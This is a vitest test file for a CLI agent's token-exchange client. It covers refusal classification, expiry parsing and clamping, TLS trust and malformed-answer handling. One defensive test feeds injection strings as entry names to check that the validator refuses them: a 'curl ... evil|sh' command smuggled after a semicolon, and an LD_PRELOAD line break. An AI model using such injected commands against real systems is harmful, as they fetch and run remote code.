import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AgentTransientError } from '../../cli/agent/errors.js';
import { isPermanentRefusal, postExchange } from '../../cli/agent/exchange.js';
import type { ExchangeRequestBody } from '../../cli/agent/sign-request.js';
import { startExchangeEndpoint, type StandIn, type StandInAnswer } from '../../local/ecs-agent-endpoints.js';
import { TEST_TLS_CERT, TEST_TLS_KEY } from '../support/agent-tls-fixture.js';

const NOW = Date.parse('2026-03-01T12:00:00Z');
const BODY: ExchangeRequestBody = { iam_http_request_method: 'POST', iam_request_url: 'dXJs', iam_request_body: 'Ym9keQ==', iam_request_headers: 'e30=', taskArn: 'arn:aws:ecs:eu-west-1:123456789012:task/shop/abc' };
const jwtWithExp = (exp: unknown) => `eyJhbGciOiJub25lIn0.${Buffer.from(JSON.stringify({ exp })).toString('base64url')}.`;
const JWT_WITH_EXP = jwtWithExp(NOW / 1000 + 600);
const DAY_S = 86_400;

describe('isPermanentRefusal', () => {
  it.each([
    { status: 403, reason: 'TASK_NOT_RUNNING', permanent: true },
    { status: 403, reason: 'POLICY_DENIED', permanent: true },
    { status: 401, reason: 'AUDIENCE', permanent: true },
    { status: 400, reason: 'MALFORMED_REQUEST', permanent: true },
    { status: 404, reason: 'HTTP_404', permanent: true },
    { status: 409, reason: 'REPLAY', permanent: false },
    { status: 403, reason: 'RATE_LIMITED', permanent: false },
    { status: 429, reason: 'RATE_LIMITED', permanent: false },
    { status: 429, reason: 'STS_THROTTLED', permanent: false },
    { status: 408, reason: 'HTTP_408', permanent: false },
    { status: 503, reason: 'STS_UNAVAILABLE', permanent: false },
    { status: 500, reason: 'HTTP_500', permanent: false },
  ])('classifies $status $reason as permanent: $permanent', ({ status, reason, permanent }) => {
    expect(isPermanentRefusal(status, reason)).toBe(permanent);
  });
});

describe('postExchange', () => {
  let answer: StandInAnswer = { status: 500, body: {} };
  let endpoint: StandIn;
  let tlsEndpoint: StandIn;
  beforeAll(async () => {
    endpoint = await startExchangeEndpoint(() => answer);
    tlsEndpoint = await startExchangeEndpoint(() => answer, { tls: { key: TEST_TLS_KEY, cert: TEST_TLS_CERT } });
  });
  afterAll(async () => {
    await endpoint.close();
    await tlsEndpoint.close();
  });
  const post = (url = `${endpoint.url}/v1/auth/exchange`, ca?: string) => postExchange(url, BODY, { now: () => NOW, ...(ca ? { ca } : {}) });

  it.each([
    { case: 'an ISO expiresAt', body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z', workloadGroup: 'shop/cart' }, expiresAt: '2026-03-01T13:00:00.000Z' },
    { case: 'an expiresAt in epoch seconds', body: { token: 'a.b.c', expiresAt: NOW / 1000 + 60 }, expiresAt: '2026-03-01T12:01:00.000Z' },
    { case: "only the JWT's exp", body: { token: JWT_WITH_EXP }, expiresAt: '2026-03-01T12:10:00.000Z' },
  ])('reads a token with $case', async ({ body, expiresAt }) => {
    answer = { status: 200, body };

    const outcome = await post();

    expect(outcome).toEqual({ kind: 'issued', token: body.token, expiresAt: new Date(expiresAt) });
    expect(JSON.parse(endpoint.requests.at(-1)!.body)).toEqual(BODY);
  });

  it.each([
    { case: 'a permanent refusal', reply: { status: 403, body: { reason: 'TASK_NOT_RUNNING', message: 'task abc is STOPPED' } }, outcome: { kind: 'refused', status: 403, reason: 'TASK_NOT_RUNNING', message: 'task abc is STOPPED', permanent: true } },
    { case: 'a replay', reply: { status: 409, body: { reason: 'REPLAY', message: 'seen' } }, outcome: { kind: 'refused', status: 409, reason: 'REPLAY', message: 'seen', permanent: false } },
    { case: '429 with Retry-After', reply: { status: 429, body: { reason: 'RATE_LIMITED', message: 'slow down' }, headers: { 'retry-after': '12' } }, outcome: { kind: 'refused', status: 429, reason: 'RATE_LIMITED', message: 'slow down', permanent: false, retryAfterMs: 12_000 } },
    { case: 'a 4xx without our body', reply: { status: 403, body: '{"message":"Forbidden"}' }, outcome: { kind: 'refused', status: 403, reason: 'HTTP_403', message: '', permanent: true } },
    { case: 'a 503 with a reason', reply: { status: 503, body: { reason: 'STS_UNAVAILABLE', message: 'STS timed out' } }, outcome: { kind: 'unavailable', code: 'STS_UNAVAILABLE', message: 'STS timed out' } },
    { case: 'a 502 from a proxy', reply: { status: 502, body: '<html>bad gateway</html>' }, outcome: { kind: 'unavailable', code: 'HTTP_502', message: 'exchange answered 502' } },
    { case: 'a 200 without a token', reply: { status: 200, body: { expiresAt: '2026-03-01T13:00:00Z' } }, outcome: { kind: 'unavailable', code: 'MALFORMED_ANSWER' } },
    { case: 'a 200 whose token spans lines', reply: { status: 200, body: { token: 'a\nb', expiresAt: '2026-03-01T13:00:00Z' } }, outcome: { kind: 'unavailable', code: 'MALFORMED_ANSWER' } },
    { case: 'a 200 with no expiry anywhere', reply: { status: 200, body: { token: 'opaque' } }, outcome: { kind: 'unavailable', code: 'MALFORMED_ANSWER' } },
  ])('classifies $case', async ({ reply, outcome }) => {
    answer = reply;

    expect(await post()).toMatchObject(outcome);
  });

  it.each([
    { case: 'exactly the longest lifetime', expiresAt: NOW / 1000 + 30 * DAY_S, outcome: { kind: 'issued', token: 'a.b.c', expiresAt: new Date(NOW + 30 * DAY_S * 1000) } },
    { case: '50 days ahead (clamped to 30)', expiresAt: NOW / 1000 + 50 * DAY_S, outcome: { kind: 'issued', token: 'a.b.c', expiresAt: new Date(NOW + 30 * DAY_S * 1000), clampedFrom: new Date(NOW + 50 * DAY_S * 1000).toISOString() } },
    { case: 'the year 9999 (clamped to 30 days)', expiresAt: '9999-12-31T23:59:59Z', outcome: { kind: 'issued', token: 'a.b.c', expiresAt: new Date(NOW + 30 * DAY_S * 1000), clampedFrom: '9999-12-31T23:59:59.000Z' } },
  ])('takes an expiresAt of $case', async ({ expiresAt, outcome }) => {
    answer = { status: 200, body: { token: 'a.b.c', expiresAt } };

    expect(await post()).toEqual(outcome);
  });

  it.each([
    { case: 'expiresAt 1e20, beyond any Date', body: { token: 'a.b.c', expiresAt: 1e20 }, message: 'exchange answered 200 with expiresAt 100000000000000000000, which is not a time' },
    { case: 'expiresAt a minute past', body: { token: 'a.b.c', expiresAt: NOW / 1000 - 60 }, message: `exchange answered 200 with expiresAt ${NOW / 1000 - 60}, already past (2026-03-01T11:59:00.000Z)` },
    { case: 'expiresAt now', body: { token: 'a.b.c', expiresAt: NOW } },
    { case: 'a negative expiresAt', body: { token: 'a.b.c', expiresAt: -1 } },
    { case: 'expiresAt the string NaN', body: { token: 'a.b.c', expiresAt: 'NaN' } },
    { case: 'a boolean expiresAt', body: { token: 'a.b.c', expiresAt: true } },
    { case: 'an infinite expiresAt (1e400)', body: '{"token":"a.b.c","expiresAt":1e400}' },
    { case: 'a token whose exp is 1e20', body: { token: jwtWithExp(1e20) }, message: 'exchange answered 200 with a token whose exp is 100000000000000000000, which is not a time' },
    { case: 'a token whose exp has passed', body: { token: jwtWithExp(NOW / 1000 - 1) } },
    { case: 'a token whose exp is a string', body: { token: jwtWithExp('2099-01-01') } },
  ])('refuses $case as a malformed answer', async ({ body, message }) => {
    answer = { status: 200, body };

    expect(await post()).toMatchObject({ kind: 'unavailable', code: 'MALFORMED_ANSWER', ...(message ? { message } : {}) });
  });

  it("passes on what the proxy must declare: the answer's entry and the group's probe", async () => {
    const readinessProbe = { periodSeconds: 5, tcpSocket: { host: '127.0.0.1', port: 8080 } };
    answer = { status: 200, body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z', workloadEntry: { namespace: 'bookinfo', name: 'ratings-0123' }, readinessProbe } };

    expect(await post()).toEqual({ kind: 'issued', token: 'a.b.c', expiresAt: new Date('2026-03-01T13:00:00Z'), proxy: { workloadEntry: { namespace: 'bookinfo', name: 'ratings-0123' }, readinessProbe } });
  });

  it.each([
    { case: 'a shell command', name: 'ratings-1;curl${IFS}evil|sh' },
    { case: 'a line break', name: 'ratings-1\nLD_PRELOAD=/tmp/x.so' },
    { case: 'upper case', name: 'Ratings-1' },
    { case: 'an empty name', name: '' },
  ])('refuses an entry name with $case (it goes into a file a shell sources): a malformed answer, nothing written', async ({ name }) => {
    answer = { status: 200, body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z', workloadEntry: { namespace: 'bookinfo', name } } };

    expect(await post()).toMatchObject({ kind: 'unavailable', code: 'MALFORMED_ANSWER', message: expect.stringContaining('workloadEntry.name') });
  });

  it('trusts the configured root certs for https', async () => {
    answer = { status: 200, body: { token: 'a.b.c', expiresAt: '2026-03-01T13:00:00Z' } };

    const outcome = await post(`${tlsEndpoint.url}/v1/auth/exchange`, TEST_TLS_CERT);

    expect(outcome.kind).toBe('issued');
  });

  it('refuses an https server the root certs do not vouch for, as a transient failure', async () => {
    await expect(post(`${tlsEndpoint.url}/v1/auth/exchange`)).rejects.toThrow(AgentTransientError);
  });

  it('throws a transient error when nothing listens', async () => {
    await expect(post('http://127.0.0.1:1/v1/auth/exchange')).rejects.toMatchObject({ name: 'AgentTransientError', code: 'ECONNREFUSED' });
  });
});
